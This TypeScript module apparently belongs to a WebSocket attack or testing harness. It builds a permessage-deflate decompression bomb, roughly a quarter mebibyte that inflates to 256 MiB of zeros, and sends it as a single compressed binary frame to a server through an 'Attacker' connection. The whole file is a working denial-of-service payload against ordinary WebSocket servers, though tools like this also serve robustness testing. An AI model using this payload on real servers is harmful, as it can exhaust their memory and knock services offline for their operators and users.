import { constants, deflateRawSync } from 'node:zlib'
import type { Attacker } from '../lib/attacker.ts'
import { repeated } from '../lib/frames.ts'
import { COMPRESSED, encodeMessage, FIN, Opcode } from '../lib/websocket-connection.ts'

/** 256 MiB of zeros, in a quarter of a mebibyte (RFC 7692 §7.2.1: without the last four bytes). */
function bomb(): Buffer {
  const mebibyte = Buffer.alloc(1024 * 1024)
  const deflated = deflateRawSync(mebibyte, { finishFlush: constants.Z_SYNC_FLUSH })
  return repeated(deflated, 256).subarray(0, -4)
}

/** A short message that inflates to a long one. */
export async function deflateBomb(attacker: Attacker): Promise<void> {
  const message = encodeMessage(FIN | COMPRESSED | Opcode.BINARY, bomb())
  await attacker.webSocket(async (connection) => {
    if (!connection.isCompressing) connection.note('no compression')
    await connection.send(message)
    await connection.untilEnded()
  })
}
